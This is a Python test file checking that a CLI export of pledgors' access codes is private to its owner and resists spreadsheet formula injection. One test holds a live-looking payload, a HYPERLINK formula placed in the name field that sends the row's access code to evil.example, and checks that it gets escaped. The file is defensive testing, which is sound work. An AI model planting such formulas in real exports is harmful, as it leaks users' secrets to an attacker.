"""``shouxin pledges import --codes-out`` writes pledgors' access codes: a file of secrets, so only its
owner may read it, whatever the umask, and an existing file is not silently replaced by a readable one."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

from cli.pledges_cmd import _offline_codes
from models.pledges.importing import ImportReport


def _report() -> ImportReport:
    report = ImportReport(source="p.csv")
    report.offline_codes = [
        {"number": "CN-2026-000002", "pledgor_name": "张三", "access_code": "K7QM-2XRT-9PWD"}
    ]
    return report


def test_the_codes_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "codes.csv"
    old = os.umask(0o022)
    try:
        _offline_codes(_report(), path)
    finally:
        os.umask(old)
    assert "K7QM-2XRT-9PWD" in path.read_text(encoding="utf-8-sig")
    assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


def test_an_existing_readable_file_is_made_private_too(tmp_path: Path) -> None:
    path = tmp_path / "codes.csv"
    path.write_text("old", encoding="utf-8")
    path.chmod(0o644)
    _offline_codes(_report(), path)
    assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
    assert "old" not in path.read_text(encoding="utf-8-sig")


def test_a_name_written_as_a_formula_is_neutralised_in_the_codes_file(tmp_path: Path) -> None:
    # A live HYPERLINK would send the row's access code (C2) to whoever wrote the name.
    report = _report()
    formula = '=HYPERLINK("http://evil.example/?"&C2,"点击")'
    report.offline_codes[0]["pledgor_name"] = formula
    path = tmp_path / "codes.csv"
    _offline_codes(report, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[1][1] == "'" + formula
    assert rows[1][2] == "K7QM-2XRT-9PWD"
